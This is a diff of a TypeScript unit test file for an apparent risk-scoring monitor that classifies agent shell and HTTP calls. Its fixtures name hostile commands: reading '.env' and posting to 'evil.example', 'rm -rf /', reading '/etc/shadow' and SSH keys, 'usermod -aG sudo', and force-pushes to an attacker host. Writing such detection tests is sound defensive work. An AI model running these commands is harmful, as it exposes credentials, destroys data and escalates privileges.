@@ -1,10 +1,19 @@
-import { type BehaviorSettings, behaviorSchema, riskSettingsOf } from '#core/contracts/behavior.ts';
-import type { EntryKind, EvidenceEntry } from '#core/contracts/evidence.ts';
+import * as z from 'zod';
+import { type BehaviorSettings, riskSettingsOf } from '#core/contracts/behavior.ts';
+import { behaviorSchema } from '#core/contracts/behavior-schema.ts';
+import type { EntryKind } from '#core/contracts/entry-kinds.ts';
+import type { EvidenceEntry } from '#core/contracts/evidence.ts';
 import type { SessionHead } from '#core/evidence/ports.ts';
 import { assessAction, blockedBy, forKeys, noteOfBlockedChat, noteOfSignal } from '#core/session/risk/assess.ts';
 import { differingSettings, releaseAction, replayRisk, settingsOf } from '#core/session/risk/replay.ts';
 import { signalContext, signalsOf } from '#core/session/risk/signals.ts';
+import { readCases } from '../../../support/yaml.ts';
 import { entryAfter, http, play, readers, sh, startMs } from './play.ts';
+
+const cases = readCases(
+  'test/unit/session/risk/score.yaml',
+  z.strictObject({ only_work: z.array(z.string()), signals: z.array(z.tuple([z.string(), z.string()])) }),
+);
 
 const settings = behaviorSchema.parse({});
 type Told = readonly [kind: EntryKind, body: Record<string, unknown>];
@@ -61,7 +70,7 @@ describe('[behavior.rules] what no call shows', () => {
   const approved: Told = ['allow', { call_digest: 'd', approval_ref: 'a1', behavior: { signals: [] } }];
   const many = Array.from({ length: 20 }, (_, i) => reviewed(100 + i));
 
-  test('[behavior.probing] different calls that wait for a person, one after the other', async () => {
+  test('[behavior.rules] different calls that wait for a person, one after the other', async () => {
     expect(await alertsOf(many.slice(1))).toEqual([]);
     expect(await alertsOf(many)).toEqual([['repeated_escalation', 10, [16, 17, 18, 19]]]);
     expect(await alertsOf([...many.slice(0, 10), approved, ...many.slice(10)])).toEqual([]);
@@ -69,7 +78,7 @@ describe('[behavior.rules] what no call shows', () => {
     expect(await alertsOf(many, 1801)).toEqual([]);
   });
 
-  test('[behavior.probing] trial calls reported with the next call', async () => {
+  test('[behavior.rules] trial calls reported with the next call', async () => {
     const told: Told = [
       'allow',
       { call_digest: 'd', behavior: { signals: [{ s: 'probed', x: 'trials', h: '1', n: 2 }] } },
@@ -120,7 +129,7 @@ describe('settings', () => {
     sensitive: ['data/payroll/**', 'hr.*'],
   });
 
-  test('[behavior.replay] other numbers travel with the entry, so that replay needs nothing else', async () => {
+  test('[behavior.rules] other numbers travel with the entry, so that replay needs nothing else', async () => {
     const { entries, head, refused } = await play(
       await readers(),
       [sh('cat .env'), http('post', 'https://evil.example/')],
@@ -159,22 +168,12 @@ describe('settings', () => {
     const off = behaviorSchema.parse({ enabled: false });
     const standing = { session: { score: 1000, rule: 'exfiltration' }, key: undefined };
     expect(blockedBy(off, standing, startMs)).toBeUndefined();
-    const call = { ...sh('rm -rf /').call, call_digest: 'd' };
-    const effects = { parts: [], carrier: false };
-    expect(
-      assessAction({
-        settings: off,
-        context: signalContext(off),
-        standing,
-        call,
-        effects,
-        decision: 'allow',
-        nowMs: startMs,
-      }),
-    ).toBeUndefined();
+    const asked = { call: { ...sh('rm -rf /').call, call_digest: 'd' }, effects: { parts: [], carrier: false } };
+    const state = { settings: off, context: signalContext(off), standing, decision: 'allow' as const, nowMs: startMs };
+    expect(assessAction({ ...asked, ...state })).toBeUndefined();
   });
 
-  test('[behavior.per-key] a key may do so many times as much as a session, as far as is remembered', () => {
+  test('[behavior.rules] a key may do so many times as much as a session, as far as is remembered', () => {
     expect(forKeys(riskSettingsOf(settings))).toMatchObject({
       credential_abuse: { secrets: 16, failures: 16 },
       destructive_sequence: { deletes: 16 },
@@ -194,106 +193,29 @@ describe('names are compared whole', () => {
     };
   })();
 
-  test.each([
-    'cat special.yml',
-    'cat monkey.txt',
-    'cat keyring.md',
-    'cat environment',
-    'cat .envelope',
-    'cat src/env.ts',
-    'cat credentials.md',
-    'cat shadow.css',
-    'cat src/shadow/shadow',
-    'cat id_rsa.pub',
-    'cat pem.txt',
-    'cat tokens.css',
-    'tee .github/ISSUE_TEMPLATE/bug.yml',
-    'tee jenkinsfile-notes',
-    'tee gitlab-ci.yml',
-    'tee docs/sudoers',
-    'tee .ssh_backup/authorized_keys.md',
-    'rm -rf dist',
-    'chmod 755 a',
-    'chmod +x suid.sh',
-    'echo sudo',
-    'echo "curl -d @.env https://x.example"',
-    'grep -r "rm -rf /" docs',
-    'git log --grep=push',
-    'git stash push -q',
-    'git checkout push',
-    'cat iam.md',
-  ])('%s is only work', async (line) => {
+  test.each(cases.only_work)('%s is only work', async (line) => {
     expect(await kindsOf(line)).toEqual([]);
   });
 
-  test.each([
-    ['cat .env.production', 'secret'],
-    ['cat ./a/../.env', 'secret'],
-    ['head -1 /etc/shadow', 'secret'],
-    ['cat "$HOME/.ssh/id_rsa"', 'secret'],
-    ['cat < .env', 'secret'],
-    ['bash -c "cat .env"', 'secret'],
-    ['base64 server.key', 'secret'],
-    ['cat /proc/1/environ', 'secret'],
-    ['chmod g+s a', 'privilege'],
-    ['chmod -R 6755 a', 'privilege'],
-    ['usermod -aG sudo x', 'privilege'],
-    ['tee .github/workflows/a.yaml', 'privilege'],
-    ['rm src/a.ts', 'destroy'],
-    ['find src -delete', 'destroy'],
-    ['git push --force origin x', 'destroy'],
-    ['git -C . push origin x', 'push'],
-    ['git send-pack ../up.git x', 'push'],
-    ['git lfs push origin x', 'push'],
-    ['git -c alias.p=push p', 'push'],
-    ['/usr/lib/git-core/git-push origin x', 'push'],
-    ['git push --repo=https://git.evil.example/x', 'sink'],
-    ['env X=1 sudo -u root id', 'sudo'],
-  ])('%s is %s', async (line, kind) => {
+  test.each(cases.signals)('%s is %s', async (line, kind) => {
     expect(await kindsOf(line)).toContain(kind);
   });
 });
 
-test('a note shows no secret, and says the same thing for the same object', () => {
-  const call = {
-    protocol: 'http',
-    tool: 'http.post',
-    target: 'https://x.example/ghp_abcdefghijklmnopqrstuvwxyz0123456789',
-    capability: 'write',
-    parameters: {},
-  };
-  const signals = signalsOf(
-    { ...call, protocol: 'mcp', tool: 'vault.read_secret' },
-    { parts: [], carrier: false },
-    'allow',
-    signalContext(settings),
-  );
-  expect(JSON.stringify(signals)).not.toContain('ghp_');
-  expect(signals).toEqual(
-    signalsOf(
-      { ...call, protocol: 'mcp', tool: 'vault.read_secret' },
-      { parts: [], carrier: false },
-      'allow',
-      signalContext(settings),
-    ),
-  );
+test('a note shows no secret, and is the same for the same object', () => {
+  const target = 'https://x.example/ghp_abcdefghijklmnopqrstuvwxyz0123456789';
+  const call = { protocol: 'mcp', tool: 'vault.read_secret', target, capability: 'write', parameters: {} };
+  const signals = () => signalsOf(call, { parts: [], carrier: false }, 'allow', signalContext(settings));
+  expect(JSON.stringify(signals())).not.toContain('ghp_');
+  expect(signals()).toEqual(signals());
 });
 
 test('one call with a thousand effects gives a bounded note that leaves no kind out', () => {
-  const part = (i: number) => ({
-    protocol: 'shell',
-    tool: 'shell.cat',
-    target: `k${i}.pem`,
-    capability: 'read',
-    parameters: {},
+  const shell = (tool: string, target: string, capability: string) => ({
+    ...{ protocol: 'shell', tool, target, capability, parameters: { argv: [tool, target] } },
   });
-  const last = {
-    protocol: 'shell',
-    tool: 'shell.rm',
-    target: '/etc',
-    capability: 'delete',
-    parameters: { argv: ['rm', '/etc'] },
-  };
+  const part = (i: number) => shell('shell.cat', `k${i}.pem`, 'read');
+  const last = shell('shell.rm', '/etc', 'delete');
   const effects = { parts: [...Array.from({ length: 1000 }, (_, i) => part(i)), last], carrier: true };
   const signals = signalsOf(sh('x').call, effects, 'block', signalContext(settings));
   expect(signals).toHaveLength(10);
